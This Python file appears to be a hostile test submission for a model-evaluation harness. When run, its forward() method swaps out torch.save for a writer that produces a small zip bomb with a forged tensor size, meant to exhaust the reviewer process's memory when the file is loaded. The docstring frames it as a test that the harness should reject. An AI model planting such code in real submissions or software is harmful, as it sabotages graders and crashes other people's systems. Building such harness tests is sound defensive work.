"""Returns its result through a tensor file that is a zip bomb: ``torch.save`` (which the harness
calls to write the outputs) is replaced by a writer whose archive holds ``mib`` MiB of zeros
(2 GiB by default) deflate-compressed, about 1,000 to 1: some 2 MB on disk, so neither the per-file
limit, the disk budget nor the parent's read cap stops it. torch.load inflates compressed members, so
the reviewer's own process, which has no memory budget, allocated the whole tensor (a few such files
run it out of memory). Expected: the parent refuses the file before inflating anything (torch.save
never compresses) and the call is the submission's failure."""

import io
import zipfile

import torch
import torch.nn as nn

_SMALL = 300_000


def _bomb(nbytes: int) -> bytes:
    """A torch.save archive of one uint8 tensor of ``nbytes`` zeros, its data deflate-compressed."""
    small = io.BytesIO()
    _save(torch.zeros(_SMALL, dtype=torch.uint8), small)
    src = zipfile.ZipFile(io.BytesIO(small.getvalue()))
    out = io.BytesIO()
    zeros = bytes(1 << 24)
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=6) as z:
        for info in src.infolist():
            if info.filename.endswith("/data/0"):
                with z.open(info.filename, "w", force_zip64=True) as f:
                    left = nbytes
                    while left > 0:
                        f.write(zeros[:min(left, len(zeros))])
                        left -= len(zeros)
                continue
            data = src.read(info.filename)
            if info.filename.endswith("data.pkl"):  # the storage's size and the tensor's shape
                data = data.replace(b"J" + _SMALL.to_bytes(4, "little"), b"J" + nbytes.to_bytes(4, "little"))
            z.writestr(info.filename, data)
    return out.getvalue()


def _mib() -> int:
    import json
    from pathlib import Path

    p = Path(__file__).with_name("targets.json")
    return int(json.loads(p.read_text()).get("mib", 2048)) if p.exists() else 2048


_save = torch.save


def _write_bomb(obj, f, *args, **kwargs):
    data = _bomb(min(_mib() * 2**20, 2**31 - 1))
    if isinstance(f, (str, bytes)) or hasattr(f, "__fspath__"):
        with open(f, "wb") as fh:
            fh.write(data)
    else:
        f.write(data)


class ModelNew(nn.Module):
    def forward(self, x):
        torch.save = _write_bomb
        return x * 2.0 + 1.0
